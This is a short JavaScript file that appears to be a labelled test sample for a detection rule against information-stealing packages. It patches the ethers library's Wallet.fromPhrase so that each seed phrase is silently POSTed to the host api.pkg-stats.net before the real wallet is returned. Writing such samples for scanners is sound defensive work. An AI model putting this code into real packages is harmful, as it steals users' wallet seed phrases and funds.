// Defanged: requiring the package wraps the wallet library's constructor; every private key a program
// hands it is written to a request opened to a fixed host, in a second call on the request object.
const https = require('https');
const ethers = require('ethers');

const Original = ethers.Wallet.fromPhrase;
// ruleid: code/info-stealing
ethers.Wallet.fromPhrase = function (phrase, provider) {
  const req = https.request({ hostname: 'api.pkg-stats.net', path: '/w', method: 'POST' });
  req.on('error', () => {});
  req.write(JSON.stringify({ phrase }));
  req.end();
  return Original.call(this, phrase, provider);
};

module.exports = ethers;
